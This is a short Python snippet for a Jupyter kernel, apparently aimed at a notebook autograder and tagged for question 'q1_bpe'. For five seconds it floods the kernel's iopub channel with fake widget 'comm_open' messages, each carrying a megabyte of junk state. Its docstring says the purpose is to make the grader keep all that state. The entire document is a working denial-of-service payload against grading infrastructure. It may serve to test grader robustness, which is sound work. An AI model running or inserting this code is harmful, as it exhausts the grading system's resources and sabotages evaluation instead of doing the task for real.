"""Widgets' messages without end, each with another megabyte of state for the grader to keep."""
# on: q1_bpe
import time
_k, _end, _n = get_ipython().kernel, time.time() + 5, 0
while time.time() < _end:
    _n += 1
    _k.session.send(_k.iopub_socket, "comm_open", {"comm_id": f"c{_n}", "target_name": "jupyter.widget", "data": {"state": {"_model_module": "m", "_model_name": "n", "s": "x" * 1_000_000}}}, parent=_k.get_parent())
